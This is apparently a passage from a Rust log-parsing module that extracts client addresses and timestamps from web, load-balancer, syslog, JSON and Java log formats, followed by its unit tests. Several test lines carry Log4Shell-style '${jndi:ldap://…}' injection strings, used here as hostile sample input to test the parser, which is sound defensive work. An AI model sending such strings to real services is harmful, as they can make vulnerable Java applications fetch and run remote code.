        while c.peek().is_some_and(|b| b > b' ' && b != b'=' && b != b'"') {
            c.i += 1;
        }
        let key = &line[start..c.i];
        if key.is_empty() {
            // The end, or `=` or `"` where a key belongs.
            break;
        }
        if !c.eat_if(b'=') {
            // A key without a value.
            continue;
        }
        let value = if c.eat_if(b'"') {
            let from = c.i;
            loop {
                match c.peek() {
                    None => break None,
                    Some(b'\\') => c.i += 2,
                    Some(b'"') => {
                        c.i += 1;
                        break line.get(from..c.i - 1);
                    }
                    Some(_) => c.i += 1,
                }
            }
        } else {
            let from = c.i;
            while c.peek().is_some_and(|b| b > b' ') {
                c.i += 1;
            }
            line.get(from..c.i)
        };
        let Some(value) = value else {
            break;
        };
        pairs += 1;
        known |= logfmt_pair(&mut found, key, value);
    }
    if pairs < 2 || !known {
        return None;
    }
    let ip = found.ip.map(|(_, ip)| ip).or(found.inner.source_ip);
    let ts = found.ts.map(|(_, ts)| ts).or(found.inner.timestamp);
    Some(ctx(Layout::Logfmt, ip, ts))
}

/// Whether the line starts with an identifier (of at most 64 bytes) and
/// `=`.
fn logfmt_start(line: &[u8]) -> bool {
    let Some(&first) = line.first() else {
        return false;
    };
    if !(first.is_ascii_alphabetic() || matches!(first, b'@' | b'_')) {
        return false;
    }
    let n = line
        .iter()
        .take(64)
        .take_while(|&&b| is_key_byte(b))
        .count();
    line.get(n) == Some(&b'=')
}

/// Offers one pair's value; whether the key is one we know. A quoted value
/// is taken raw: addresses and times hold no escapes, and an inner access
/// line's escaped quotes come after the part that is read.
fn logfmt_pair(found: &mut Found, key: &[u8], value: &[u8]) -> bool {
    let Ok(key) = std::str::from_utf8(key) else {
        return false;
    };
    let first = |v: &[u8]| parse_ip(v.split(|&b| b == b',').next().unwrap_or_default());
    match role(Scope::Top, key) {
        Role::Ip(r) | Role::IpOrObject(r, _) => found.offer_ip(r, parse_ip(value)),
        Role::Forwarded(r) => found.offer_ip(r, first(value)),
        Role::Time(r) => found.offer_ts(r, text_time(value)),
        Role::Message => {
            if found.inner.layout.is_none() {
                if let Some(inner) = web_server(trim_line(value)) {
                    found.inner = inner;
                }
            }
        }
        // Heroku's router: `fwd="203.0.113.1"`, its X-Forwarded-For.
        Role::Ignore if key.eq_ignore_ascii_case("fwd") => found.offer_ip(8, first(value)),
        Role::Ignore | Role::Object(_) => {
            return ["level", "lvl", "severity", "at"]
                .iter()
                .any(|k| key.eq_ignore_ascii_case(k));
        }
    }
    true
}

// AWS load balancers.

/// The request types an ALB log line starts with.
const ALB_TYPES: [&[u8]; 6] = [b"http", b"https", b"h2", b"grpcs", b"ws", b"wss"];

/// ALB: `type time elb client:port target:port request_processing_time …`.
fn alb(head: &[u8]) -> Option<LineContext> {
    let sp = head.iter().take(6).position(|&b| b == b' ')?;
    if !ALB_TYPES.contains(&&head[..sp]) {
        return None;
    }
    load_balancer(&head[sp + 1..])
}

/// Classic ELB, and ALB after its type: `time elb client:port
/// backend:port|- request_processing_time …`, the time in UTC. The
/// fields after the client are checked so that an rsyslog line (`time host
/// tag: …`) is not taken for one.
fn load_balancer(head: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(head);
    let ts = iso8601(&mut c, false)?;
    c.eat(b' ')?;
    let [name, client, backend, took] = fields::<4>(c.rest(), b' ');
    let seconds = took.strip_prefix(b"-").unwrap_or(took);
    if name.is_empty()
        || !(backend == b"-" || parse_ip_port(backend).is_some())
        || seconds.first().is_none_or(|b| !b.is_ascii_digit())
        || !seconds.iter().all(|b| b.is_ascii_digit() || *b == b'.')
    {
        return None;
    }
    let ip = parse_ip_port(client)?;
    Some(ctx(Layout::AwsLoadBalancer, Some(ip), Some(ts)))
}

// IIS and CloudFront.

/// IIS W3C extended log with IIS's default fields: `date time s-ip
/// cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip …` (or IIS
/// 6's `s-sitename` before `s-ip`). IIS logs in UTC. IIS writes `+` for
/// blanks inside fields, so the fields are found by blanks; they are read
/// lazily, past [`HEADER_SCAN`] when the URI is long.
fn iis(line: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(line);
    let ymd = date(&mut c)?;
    c.eat(b' ')?;
    let t = clock(&mut c, b"")?;
    c.eat(b' ')?;
    let f = fields::<8>(c.rest(), b' ');
    let at = if parse_ip(f[0]).is_some() && is_method(f[1]) {
        6
    } else if !f[0].is_empty() && parse_ip(f[1]).is_some() && is_method(f[2]) {
        7
    } else {
        return None;
    };
    Some(ctx(Layout::Iis, parse_ip(f[at]), instant(ymd, t, 0)))
}

/// CloudFront standard log: `date⇥time⇥x-edge-location⇥sc-bytes⇥c-ip⇥
/// cs-method⇥…`, in UTC.
fn cloudfront(head: &[u8]) -> Option<LineContext> {
    let mut c = Cur::new(head);
    let ymd = date(&mut c)?;
    c.eat(b'\t')?;
    let t = clock(&mut c, b"")?;
    c.eat(b'\t')?;
    let [edge, bytes, client, method] = fields::<4>(c.rest(), b'\t');
    if edge.is_empty()
        || bytes.is_empty()
        || !bytes.iter().all(u8::is_ascii_digit)
        || !is_method(method)
    {
        return None;
    }
    Some(ctx(
        Layout::CloudFront,
        parse_ip(client),
        instant(ymd, t, 0),
    ))
}

// ---------------------------------------------------------------------------
// Syslog.

/// RFC 5424 when `<PRI>1 ` starts the line, else RFC 3164 (with or without
/// `<PRI>`). `line` starts with `<`, a month name or an ISO date.
fn syslog(line: &[u8], year_hint: i16) -> LineContext {
    let mut c = Cur::new(line);
    if c.eat(b'<').is_some() {
        if c.digits(1, 3).is_none() || c.eat(b'>').is_none() {
            return LineContext::default();
        }
        if c.eat_str(b"1 ").is_some() {
            return syslog5424(c).unwrap_or_default();
        }
    }
    syslog3164(c, year_hint).unwrap_or_default()
}

/// `Mmm dd HH:MM:SS host tag[pid]: msg`; rsyslog's `YYYY-MM-DDTHH:MM:SS…`
/// stamp is accepted in place of the BSD one. A BSD stamp has no year
/// (`year_hint`) and no zone (taken as UTC).
fn syslog3164(mut c: Cur<'_>, year_hint: i16) -> Option<LineContext> {
    let ts = if c.peek()?.is_ascii_digit() {
        iso8601(&mut c, false)
    } else {
        let mo = month(c.rest())?;
        c.i += 3;
        c.eat(b' ')?;
        c.eat_if(b' ');
        let d = c.digits(1, 2)?;
        c.eat(b' ')?;
        let (h, mi, s, ns) = clock(&mut c, b".")?;
        let y = u32::try_from(year_hint).unwrap_or(0);
        instant((y, u32::try_from(mo).ok()?, d), (h, mi, s, ns), 0)
    };
    c.eat(b' ')?;
    let after_stamp = c.rest();
    // The host name; the tag and message follow.
    let host = c.until(b' ', 256).unwrap_or_default();
    c.eat_if(b' ');
    let after_host = c.rest();
    let head = &after_stamp[..after_stamp.len().min(256)];
    let msg = match memmem::find(head, b": ") {
        Some(at) => &after_stamp[at + 2..],
        None => after_host,
    };
    let mut out = message_context(msg);
    // No tag: the message may start right after the host, and a `: ` found
    // above was inside it.
    if out.source_ip.is_none() && msg.len() != after_host.len() && !host.is_empty() {
        let again = message_context(after_host);
        if again.source_ip.is_some() {
            out = again;
        }
    }
    Some(ctx(Layout::Syslog3164, out.source_ip, out.timestamp.or(ts)))
}

/// `TIMESTAMP HOST APP PROCID MSGID SD [MSG]` after `<PRI>1 `.
fn syslog5424(mut c: Cur<'_>) -> Option<LineContext> {
    let ts = if c.eat(b'-').is_some() {
        None
    } else {
        Some(iso8601(&mut c, false)?)
    };
    c.eat(b' ')?;
    for _ in 0..4 {
        let field = c.until(b' ', 256)?;
        if field.is_empty() {
            return None;
        }
        c.eat(b' ')?;
    }
    // Structured data: `-` or `[id k="v" …]…` with `\"`, `\\`, `\]` escapes.
    if c.eat(b'-').is_none() {
        let mut any = false;
        while c.eat(b'[').is_some() {
            any = true;
            let mut quoted = false;
            loop {
                match c.peek() {
                    None => return Some(ctx(Layout::Syslog5424, None, ts)),
                    Some(b'\\') => c.i += 2,
                    Some(b'"') => {
                        quoted = !quoted;
                        c.i += 1;
                    }
                    Some(b']') if !quoted => {
                        c.i += 1;
                        break;
                    }
                    Some(_) => c.i += 1,
                }
            }
        }
        if !any {
            return None;
        }
    }
    let mut msg = c.rest();
    msg = msg.strip_prefix(b" ").unwrap_or(msg);
    msg = msg.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(msg);
    let inner = message_context(msg);
    Some(ctx(
        Layout::Syslog5424,
        inner.source_ip,
        inner.timestamp.or(ts),
    ))
}

/// What a syslog message says: an inner access, error, JSON or logfmt line, else
/// sshd's `from ADDR port`, PAM's `rhost=ADDR` or netfilter's `SRC=ADDR`.
fn message_context(msg: &[u8]) -> LineContext {
    let msg = trim_line(msg);
    if let Some(inner) = direct_or_logfmt(msg) {
        if inner.source_ip.is_some() || inner.timestamp.is_some() {
            return inner;
        }
    }
    LineContext {
        source_ip: message_ip(msg),
        ..LineContext::default()
    }
}

fn message_ip(msg: &[u8]) -> Option<IpAddr> {
    // sshd: `Invalid user NAME from ADDR port N`; NAME is the client's
    // choice, so the last occurrence is the one sshd wrote.
    for at in memmem::rfind_iter(msg, b" from ") {
        let value = &msg[at + 6..];
        if let Some(ip) = ip_prefix(value) {
            let len = value
                .iter()
                .take(64)
                .take_while(|b| !matches!(b, b' '))
                .count();
            if value[len..].starts_with(b" port ") || len == value.len() {
                return Some(ip);
            }
        }
    }
    for key in [&b"rhost="[..], b"SRC="] {
        for at in memmem::find_iter(msg, key) {
            let ok = at == 0 || msg[at - 1] == b' ';
            if let Some(ip) = ok.then(|| ip_prefix(&msg[at + key.len()..])).flatten() {
                return Some(ip);
            }
        }
    }
    None
}

// ---------------------------------------------------------------------------
// JSON lines.

/// One JSON object: the fields listed in the module docs, read in one
/// streaming pass that keeps nothing but what it is after.
fn json(line: &[u8]) -> Option<LineContext> {
    let mut found = Found::default();
    let mut de = serde_json::Deserializer::from_slice(line);
    // Errors (truncation, invalid UTF-8, trailing text) keep what was found.
    let _ = Walk {
        found: &mut found,
        scope: Scope::Top,
    }
    .deserialize(&mut de);
    if !found.object {
        return None;
    }
    let ip = found.ip.map(|(_, ip)| ip).or(found.inner.source_ip);
    let ts = found.ts.map(|(_, ts)| ts).or(found.inner.timestamp);
    Some(ctx(Layout::JsonLines, ip, ts))
}

#[derive(Default)]
struct Found {
    /// A key was read: this is a JSON object.
    object: bool,
    /// The address and its rank (lower wins).
    ip: Option<(u8, IpAddr)>,
    ts: Option<(u8, Timestamp)>,
    /// What a `message`-like string that is itself a log line says.
    inner: LineContext,
}

impl Found {
    fn offer_ip(&mut self, rank: u8, ip: Option<IpAddr>) {
        if let Some(ip) = ip {
            if self.ip.is_none_or(|(r, _)| rank < r) {
                self.ip = Some((rank, ip));
            }
        }
    }

    fn offer_ts(&mut self, rank: u8, ts: Option<Timestamp>) {
        if let Some(ts) = ts {
            if self.ts.is_none_or(|(r, _)| rank < r) {
                self.ts = Some((rank, ts));
            }
        }
    }
}

/// Which object a key belongs to.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Scope {
    Top,
    Source,
    Client,
    Http,
}

/// What a value means.
#[derive(Clone, Copy)]
enum Role {
    Ignore,
    Ip(u8),
    /// `X-Forwarded-For`: a list, the first address is the client.
    Forwarded(u8),
    Time(u8),
    /// `client`: an address, or an object holding `ip`.
    IpOrObject(u8, Scope),
    Object(Scope),
    /// A message that may be a log line itself.
    Message,
}

/// The role of `key` in `scope`. Keys compare without ASCII case and
/// without `_` and `-`.
fn role(scope: Scope, key: &str) -> Role {
    let mut buf = [0u8; 24];
    let mut n = 0;
    for b in key.bytes() {
        if matches!(b, b'_' | b'-') {
            continue;
        }
        if n == buf.len() {
            return Role::Ignore;
        }
        buf[n] = b.to_ascii_lowercase();
        n += 1;
    }
    let key = &buf[..n];
    match scope {
        Scope::Top => match key {
            b"remoteaddr" => Role::Ip(0),
            b"remoteip" => Role::Ip(1),
            b"clientip" => Role::Ip(2),
            b"client" => Role::IpOrObject(4, Scope::Client),
            b"srcip" => Role::Ip(5),
            b"sourceip" => Role::Ip(6),
            b"ip" => Role::Ip(7),
            b"xforwardedfor" | b"httpxforwardedfor" => Role::Forwarded(8),
            b"source.ip" => Role::Ip(9),
            b"client.ip" => Role::Ip(10),
            b"http.clientip" => Role::Ip(11),
            b"source" => Role::Object(Scope::Source),
            b"http" => Role::Object(Scope::Http),
            b"@timestamp" => Role::Time(0),
            b"timestamp" => Role::Time(1),
            b"time" => Role::Time(2),
            b"ts" => Role::Time(3),
            b"datetime" => Role::Time(4),
            b"date" => Role::Time(5),
            b"timeiso8601" => Role::Time(6),
            b"timelocal" => Role::Time(7),
            b"log" | b"message" | b"msg" => Role::Message,
            _ => Role::Ignore,
        },
        Scope::Source if key == b"ip" => Role::Ip(9),
        Scope::Client if key == b"ip" => Role::Ip(10),
        Scope::Http if key == b"clientip" => Role::Ip(11),
        Scope::Source | Scope::Client | Scope::Http => Role::Ignore,
    }
}

/// Walks an object of `scope`, offering what it finds.
struct Walk<'f> {
    found: &'f mut Found,
    scope: Scope,
}

impl<'de> DeserializeSeed<'de> for Walk<'_> {
    type Value = ();

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_map(self)
    }
}

impl<'de> Visitor<'de> for Walk<'_> {
    type Value = ();

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a JSON object")
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        while let Some(role) = map.next_key_seed(KeyRole(self.scope))? {
            if self.scope == Scope::Top {
                self.found.object = true;
            }
            match role {
                Role::Ignore => {
                    map.next_value::<IgnoredAny>()?;
                }
                role => map.next_value_seed(Value {
                    found: &mut *self.found,
                    role,
                })?,
            }
        }
        Ok(())
    }
}

/// Reads a key into its [`Role`] without keeping it.
struct KeyRole(Scope);

impl<'de> DeserializeSeed<'de> for KeyRole {
    type Value = Role;

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<Role, D::Error> {
        d.deserialize_str(self)
    }
}

impl Visitor<'_> for KeyRole {
    type Value = Role;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a key")
    }

    fn visit_str<E: de::Error>(self, key: &str) -> Result<Role, E> {
        Ok(role(self.0, key))
    }
}

/// A value whose role is known: any JSON type is accepted, the ones that
/// make no sense for the role are skipped.
struct Value<'f> {
    found: &'f mut Found,
    role: Role,
}

impl<'de> DeserializeSeed<'de> for Value<'_> {
    type Value = ();

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Value<'_> {
    type Value = ();

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("any JSON value")
    }

    fn visit_str<E: de::Error>(self, s: &str) -> Result<(), E> {
        match self.role {
            Role::Ip(rank) | Role::IpOrObject(rank, _) => {
                self.found.offer_ip(rank, parse_ip(s.as_bytes()));
            }
            Role::Forwarded(rank) => {
                let first = s.split(',').next().unwrap_or_default();
                self.found.offer_ip(rank, parse_ip(first.as_bytes()));
            }
            Role::Time(rank) => self.found.offer_ts(rank, text_time(s.as_bytes())),
            Role::Message if self.found.inner.layout.is_none() => {
                let line = trim_line(s.as_bytes());
                if let Some(inner) = web_server(line).or_else(|| service(line)) {
                    self.found.inner = inner;
                }
            }
            Role::Message | Role::Object(_) | Role::Ignore => {}
        }
        Ok(())
    }

    fn visit_u64<E: de::Error>(self, v: u64) -> Result<(), E> {
        if let Role::Time(rank) = self.role {
            self.found.offer_ts(rank, epoch_int(i128::from(v)));
        }
        Ok(())
    }

    fn visit_i64<E: de::Error>(self, v: i64) -> Result<(), E> {
        if let Role::Time(rank) = self.role {
            self.found.offer_ts(rank, epoch_int(i128::from(v)));
        }
        Ok(())
    }

    fn visit_f64<E: de::Error>(self, v: f64) -> Result<(), E> {
        if let Role::Time(rank) = self.role {
            self.found.offer_ts(rank, epoch(v));
        }
        Ok(())
    }

    fn visit_bool<E: de::Error>(self, _: bool) -> Result<(), E> {
        Ok(())
    }

    fn visit_unit<E: de::Error>(self) -> Result<(), E> {
        Ok(())
    }

    fn visit_none<E: de::Error>(self) -> Result<(), E> {
        Ok(())
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<(), A::Error> {
        while seq.next_element::<IgnoredAny>()?.is_some() {}
        Ok(())
    }

    fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<(), A::Error> {
        match self.role {
            Role::Object(scope) | Role::IpOrObject(_, scope) => Walk {
                found: self.found,
                scope,
            }
            .visit_map(map),
            _ => IgnoredAny.visit_map(map).map(|_| ()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    fn ts(s: &str) -> Timestamp {
        s.parse().unwrap()
    }

    fn v4(a: u8, b: u8, c: u8, d: u8) -> Option<IpAddr> {
        Some(IpAddr::V4(Ipv4Addr::new(a, b, c, d)))
    }

    fn check(line: &str, layout: Layout, ip: Option<IpAddr>, time: Option<&str>) {
        let got = line_context(line.as_bytes(), 2021);
        let want = LineContext {
            source_ip: ip,
            timestamp: time.map(ts),
            layout: Some(layout),
        };
        assert_eq!(got, want, "{line}");
    }

    #[test]
    fn access_combined() {
        check(
            r#"203.0.113.9 - - [10/Dec/2021:13:55:36 -0700] "GET /index.html HTTP/1.1" 200 2326 "-" "curl/7.68.0""#,
            Layout::Access,
            v4(203, 0, 113, 9),
            Some("2021-12-10T20:55:36Z"),
        );
    }

    #[test]
    fn access_common_with_user_and_crlf() {
        check(
            "198.51.100.7 - frank [01/Jan/2022:00:00:01 +0100] \"POST /login HTTP/1.0\" 302 0\r\n",
            Layout::Access,
            v4(198, 51, 100, 7),
            Some("2021-12-31T23:00:01Z"),
        );
    }

    #[test]
    fn access_vhost_and_ipv6() {
        check(
            r#"www.example.com:443 2001:db8::7 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/2.0" 200 5 "-" "-""#,
            Layout::Access,
            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 7))),
            Some("2021-12-10T13:55:36Z"),
        );
        check(
            r#"::ffff:192.0.2.4 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/1.1" 200 5"#,
            Layout::Access,
            v4(192, 0, 2, 4),
            Some("2021-12-10T13:55:36Z"),
        );
    }

    #[test]
    fn access_hostname_client_has_time_only() {
        check(
            r#"client.example.net - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/1.1" 200 5"#,
            Layout::Access,
            None,
            Some("2021-12-10T13:55:36Z"),
        );
    }

    #[test]
    fn nginx_error_log() {
        check(
            r#"2021/12/10 12:00:00 [error] 123#0: *1 open() "/usr/share/nginx/html/x" failed (2: No such file or directory), client: 192.0.2.10, server: example.com, request: "GET /x HTTP/1.1", host: "example.com""#,
            Layout::NginxError,
            v4(192, 0, 2, 10),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            "2021/12/10 12:00:00 [notice] 1#1: signal process started",
            Layout::NginxError,
            None,
            Some("2021-12-10T12:00:00Z"),
        );
    }

    #[test]
    fn nginx_error_prefers_the_client_nginx_wrote() {
        // The URI before nginx's fields holds a forged `, client:`.
        check(
            r#"2021/12/10 12:00:00 [error] 7#7: *9 open() "/srv/a, client: 6.6.6.6" failed (2: No such file or directory), client: 192.0.2.10, server: example.com, request: "GET /a, client: 7.7.7.7, server: x HTTP/1.1""#,
            Layout::NginxError,
            v4(192, 0, 2, 10),
            Some("2021-12-10T12:00:00Z"),
        );
    }

    #[test]
    fn apache_error_24_and_22() {
        check(
            "[Fri Dec 10 12:00:00.123456 2021] [core:error] [pid 123:tid 4] [client 192.0.2.44:5678] AH00126: Invalid URI in request",
            Layout::ApacheError,
            v4(192, 0, 2, 44),
            Some("2021-12-10T12:00:00.123456Z"),
        );
        check(
            "[Fri Dec 10 12:00:00 2021] [error] [client 192.0.2.44] File does not exist: /var/www/favicon.ico",
            Layout::ApacheError,
            v4(192, 0, 2, 44),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            "[Fri Dec 10 12:00:00.000001 2021] [ssl:info] [pid 9:tid 9] [client 2001:db8::1:443] AH01964: Connection to child 1 established",
            Layout::ApacheError,
            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1))),
            Some("2021-12-10T12:00:00.000001Z"),
        );
        check(
            "[Fri Dec 10 12:00:00.5 2021] [mpm_event:notice] [pid 1:tid 1] AH00489: Apache/2.4.52 configured [client 6.6.6.6:1]",
            Layout::ApacheError,
            None,
            Some("2021-12-10T12:00:00.5Z"),
        );
    }

    #[test]
    fn json_fields() {
        check(
            r#"{"@timestamp":"2021-12-10T12:00:00.123+01:00","remote_addr":"192.0.2.1","message":"hi"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 1),
            Some("2021-12-10T11:00:00.123Z"),
        );
        check(
            r#"{"time":1639137600123,"x-forwarded-for":"198.51.100.2, 10.0.0.1","level":30}"#,
            Layout::JsonLines,
            v4(198, 51, 100, 2),
            Some("2021-12-10T12:00:00.123Z"),
        );
        check(
            r#"{"ts":1639137600.5,"clientIP":"[2001:db8::2]:443"}"#,
            Layout::JsonLines,
            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 2))),
            Some("2021-12-10T12:00:00.5Z"),
        );
        check(
            r#"{"date":"2021-12-10 12:00:00,250","client":"192.0.2.3:41000"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 3),
            Some("2021-12-10T12:00:00.25Z"),
        );
        check(
            r#"{"time_local":"10/Dec/2021:13:55:36 +0100","remote_addr":"-","ip":"192.0.2.8"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 8),
            Some("2021-12-10T12:55:36Z"),
        );
    }

    #[test]
    fn json_ecs_nested_and_dotted() {
        check(
            r#"{"@timestamp":"2021-12-10T12:00:00Z","log.level":"info","source":{"ip":"192.0.2.9","port":1},"http":{"request":{"method":"GET"}}}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 9),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            r#"{"client":{"ip":"192.0.2.10"},"timestamp":"2021-12-10T12:00:00Z"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 10),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            r#"{"http":{"client_ip":"192.0.2.11"}}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 11),
            None,
        );
        check(
            r#"{"source.ip":"192.0.2.12"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 12),
            None,
        );
    }

    #[test]
    fn json_rank_decides_not_order() {
        check(
            r#"{"ip":"192.0.2.1","x_forwarded_for":"${jndi:ldap://x/a}","remote_addr":"192.0.2.2","time":"nonsense","timestamp":"2021-12-10T12:00:00Z"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 2),
            Some("2021-12-10T12:00:00Z"),
        );
    }

    #[test]
    fn json_docker_log_wraps_an_access_line() {
        check(
            r#"{"log":"192.0.2.30 - - [10/Dec/2021:13:55:36 +0000] \"GET / HTTP/1.1\" 200 5\n","stream":"stdout","time":"2021-12-10T13:55:36.5Z"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 30),
            Some("2021-12-10T13:55:36.5Z"),
        );
    }

    #[test]
    fn json_docker_log_wraps_a_java_line() {
        check(
            r#"{"log":"2021-12-10 13:55:36.250  WARN 1 --- [nio-8080-exec-1] c.e.Api : bad token {clientIp=192.0.2.31}\n","stream":"stdout","time":"2021-12-10T13:55:36.5Z"}"#,
            Layout::JsonLines,
            v4(192, 0, 2, 31),
            Some("2021-12-10T13:55:36.5Z"),
        );
        check(
            r#"{"log":"10-Dec-2021 10:00:00.123 INFO [main] o.a.c.Catalina.start x\n"}"#,
            Layout::JsonLines,
            None,
            Some("2021-12-10T10:00:00.123Z"),
        );
    }

    #[test]
    fn json_truncated_keeps_fields_seen() {
        check(
            r#"{"remote_addr":"192.0.2.5","message":"${jndi:ldap://"#,
            Layout::JsonLines,
            v4(192, 0, 2, 5),
            None,
        );
        assert_eq!(line_context(b"{", 2021), LineContext::default());
        assert_eq!(line_context(b"{not json", 2021), LineContext::default());
        assert_eq!(line_context(b"[1,2,3]", 2021), LineContext::default());
    }

    #[test]
    fn syslog_3164() {
        check(
            "<34>Oct 11 22:14:15 mymachine su[12]: 'su root' failed for lonvick on /dev/pts/8",
            Layout::Syslog3164,
            None,
            Some("2021-10-11T22:14:15Z"),
        );
        check(
            "Oct  1 02:03:04 host CRON[77]: (root) CMD (run-parts /etc/cron.hourly)",
            Layout::Syslog3164,
            None,
            Some("2021-10-01T02:03:04Z"),
        );
        check(
            "Dec 10 12:00:00 bastion sshd[811]: Invalid user ${jndi:ldap://198.51.100.1/a} from 192.0.2.50 port 50522",
            Layout::Syslog3164,
            v4(192, 0, 2, 50),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            "2021-12-10T12:00:00.123456+01:00 host sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.51  user=root",
            Layout::Syslog3164,
            v4(192, 0, 2, 51),
            Some("2021-12-10T11:00:00.123456Z"),
        );
    }

    #[test]
    fn syslog_3164_year_hint() {
        let got = line_context(b"Feb 29 00:00:00 h app: x", 2024);
        assert_eq!(got.timestamp, Some(ts("2024-02-29T00:00:00Z")));
        // Not a date in 2021: the layout stands, the time does not.
        let got = line_context(b"Feb 29 00:00:00 h app: x", 2021);
        assert_eq!(
            got,
            LineContext {
                layout: Some(Layout::Syslog3164),
                ..LineContext::default()
            }
        );
    }

    #[test]
    fn syslog_3164_wrapping_access_and_error_lines() {
        check(
            r#"<190>Dec 10 12:00:00 web1 nginx: 192.0.2.60 - - [10/Dec/2021:13:00:00 +0100] "GET /?x=${jndi:ldap://a/b} HTTP/1.1" 200 5"#,
            Layout::Syslog3164,
            v4(192, 0, 2, 60),
            Some("2021-12-10T12:00:00Z"),
        );
        check(
            "<187>Dec 10 12:00:01 web1 nginx: 2021/12/10 12:00:01 [error] 1#1: *2 x, client: 192.0.2.61, server: a",
            Layout::Syslog3164,
            v4(192, 0, 2, 61),
            Some("2021-12-10T12:00:01Z"),
        );
        check(
            "<187>Dec 10 12:00:01 web1 httpd[9]: [Fri Dec 10 12:00:01 2021] [error] [client 192.0.2.62] x",
            Layout::Syslog3164,
            v4(192, 0, 2, 62),
            Some("2021-12-10T12:00:01Z"),
        );
    }

    #[test]
    fn syslog_5424() {
        check(
            "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - BOM'su root' failed",
            Layout::Syslog5424,
            None,
            Some("2003-10-11T22:14:15.003Z"),
        );
        check(
            r#"<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - [exampleSDID@32473 iut="3" eventSource="App\"li]cation"][b x="]"] 198.51.100.70 - - [24/Aug/2003:05:14:15 -0700] "GET / HTTP/1.1" 200 1"#,
            Layout::Syslog5424,
            v4(198, 51, 100, 70),
            Some("2003-08-24T12:14:15Z"),
        );
        check("<34>1 - host app - - -", Layout::Syslog5424, None, None);
        check(
            "<34>1 2021-12-10T12:00:00Z host app 1 - - \u{feff}{\"client_ip\":\"192.0.2.71\"}",
            Layout::Syslog5424,
            v4(192, 0, 2, 71),
            Some("2021-12-10T12:00:00Z"),
        );
    }

    #[test]
    fn java_logback_log4j_spring_boot() {
        // Logback / Log4j `%d`: no zone, taken as UTC.
        check(
            "2021-12-26 17:46:40,080 [http-nio-8080-exec-1] INFO  c.e.LoginController - login failed user=${jndi:ldap://203.0.113.5/a} remote_addr=192.0.2.20",
            Layout::JavaApp,
            v4(192, 0, 2, 20),
            Some("2021-12-26T17:46:40.08Z"),
        );
        // Log4j 1 `%d %-5p [%t]`: the level first.
        check(
            "2021-12-26 17:46:40.080 WARN  [main] com.example.Api - bad header X-Forwarded-For: 198.51.100.21, 10.0.0.1",
            Layout::JavaApp,
            v4(198, 51, 100, 21),
            Some("2021-12-26T17:46:40.08Z"),
        );
        // Spring Boot 2: the level padded on the left.
        check(
            "2021-12-10 12:00:00.123  WARN 1 --- [nio-8080-exec-1] c.e.Controller : ${jndi:ldap://203.0.113.141/a}",
            Layout::JavaApp,
            None,
            Some("2021-12-10T12:00:00.123Z"),
        );
        // Spring Boot 3 with an offset; ISO 8601 with `Z`.
        check(
            "2021-12-26T17:46:40.080+01:00  INFO 4242 --- [           main] c.e.App : request {clientIp=192.0.2.22, user=bob}",
            Layout::JavaApp,
            v4(192, 0, 2, 22),
            Some("2021-12-26T16:46:40.08Z"),
        );
        check(
            "2021-12-26T17:46:40.080Z [main] [ERROR] c.e.App - payload {\"client_ip\":\"2001:db8::23\",\"ua\":\"x\"}",
            Layout::JavaApp,
            Some(IpAddr::V6(Ipv6Addr::new(
                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x23,
            ))),
            Some("2021-12-26T17:46:40.08Z"),
        );
    }

    #[test]
    fn java_tomcat_and_clock_only() {
        check(
            "10-Dec-2021 10:00:00.123 INFO [main] org.apache.catalina.startup.Catalina.start Server startup in [1234] milliseconds",
            Layout::JavaApp,
            None,
            Some("2021-12-10T10:00:00.123Z"),
        );
        check(
            "10-Dec-2021 10:00:01.5 SEVERE [http-nio-8080-exec-3] org.example.Filter.doFilter rejected ip: 192.0.2.24 uri=/?q=${jndi:dns://203.0.113.6/a}",
            Layout::JavaApp,
            v4(192, 0, 2, 24),
            Some("2021-12-10T10:00:01.5Z"),
        );
        // Logback's default pattern has no date.
        check(
            "17:46:40.080 [main] DEBUG com.example.App - src_ip=[2001:db8::25]:443 ok",
            Layout::JavaApp,
